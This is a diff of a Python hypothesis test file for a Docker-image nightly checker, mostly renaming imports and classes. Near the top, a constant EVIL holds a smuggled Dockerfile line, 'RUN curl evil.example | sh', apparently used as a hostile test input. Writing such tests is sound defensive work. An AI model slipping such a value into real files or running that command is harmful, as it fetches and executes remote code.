@@ -11,18 +11,21 @@ from typing import Any
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from nightly.made import NEW, OLD, record
 
 from tf_docker_check.errors import UsageError
-from tf_docker_check.model.nightly import Night, NightReport, Regression, Signature
-from tf_docker_check.pipeline.past import HISTORY, REPORT, WATCH, merged
+from tf_docker_check.nightly import history, watch_state
+from tf_docker_check.nightly.history import History
+from tf_docker_check.nightly.night import Night
+from tf_docker_check.nightly.night_report import NightReport, Regression
+from tf_docker_check.nightly.previous import HISTORY, REPORT, WATCH, merge_nights
+from tf_docker_check.nightly.signature import Signature
+from tf_docker_check.nightly.trial import dockerfile
+from tf_docker_check.nightly.watch_state import WatchState
 from tf_docker_check.registry.reference import parse
-from tf_docker_check.upstream import document, history, lock, releases, watched
-from tf_docker_check.upstream.history import History
+from tf_docker_check.upstream import document, lock, releases
 from tf_docker_check.upstream.releases import Release
-from tf_docker_check.upstream.trial import dockerfile
-from tf_docker_check.upstream.watch import Seen
-from tf_docker_check.upstream.watched import Watched
-from upstream.made import NEW, OLD, record
+from tf_docker_check.upstream.watch import SeenTag
 from upstream.test_lock import LOCK
 
 EVIL = "1\nRUN curl evil.example | sh\n"
@@ -41,18 +44,18 @@ ANYTHING = st.recursive(
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
     max_leaves=8,
 )
-WATCHED = Watched(
+WATCHED = WatchState(
     run=7,
     attempt=1,
     when="2026-01-01T00:00:00+00:00",
-    tags={"img:1": Seen(OLD, NEW)},
+    tags={"img:1": SeenTag(OLD, NEW)},
     good={"slim": {"numpy": "2"}},
     releases={"99.0.0": Release("2026-01-01T00:00:00+00:00")},
 )
 REPORTED = NightReport(Night(7, 1, "2026-01-01T00:00:00+00:00"), contents=("a",))
 FILES: dict[str, tuple[bytes, Callable[[bytes], object]]] = {
     "lock": (lock.dump(LOCK), lambda data: lock.load(data, "lock")),
-    WATCH: (document.dump(WATCHED), lambda data: watched.load(data, WATCH)),
+    WATCH: (document.dump(WATCHED), lambda data: watch_state.load(data, WATCH)),
     REPORT: (document.dump(REPORTED), lambda data: document.load(data, NightReport, REPORT)),
 }
 RECORD = history.dump(History((record(7),)))
@@ -112,9 +115,9 @@ def test_a_bent_record_is_read_or_put_aside(data: st.DataObject) -> None:
 @given(data=st.data())
 def test_whatever_the_past_is_a_night_can_begin(data: st.DataObject) -> None:
     files = {name: data.draw(bent(FILES[name][0])) for name in (WATCH, REPORT)}
-    found = merged([{**files, HISTORY: data.draw(bent(RECORD))}])
+    found = merge_nights([{**files, HISTORY: data.draw(bent(RECORD))}])
     assert len(found.notes) <= 2
-    for reference in releases.awaited(found.watched.releases, "2026-01-02T00:00:00+00:00"):
+    for reference in releases.awaited_images(found.watched.releases, "2026-01-02T00:00:00+00:00"):
         assert parse(reference).tag
     for each in found.watched.tags.values():
         assert all(parse(f"img@{digest}") for digest in (each.digest, each.image) if digest)
@@ -153,8 +156,8 @@ def test_a_record_that_no_night_wrote_is_put_aside(line: str) -> None:
 )
 def test_a_watch_that_no_night_wrote_counts_as_none(told: dict[str, Any]) -> None:
     told_well = replace(REPORTED, regressions=(Regression(Signature("a", "cpu", ""), "id", ("a@cpu",)),))
-    past = merged([{WATCH: json.dumps(told).encode(), REPORT: document.dump(told_well)}])
-    assert (past.watched, past.explained) == (Watched(), told_well.regressions)
+    past = merge_nights([{WATCH: json.dumps(told).encode(), REPORT: document.dump(told_well)}])
+    assert (past.watched, past.explained) == (WatchState(), told_well.regressions)
     assert "none of ours" in past.notes[0]
 
 
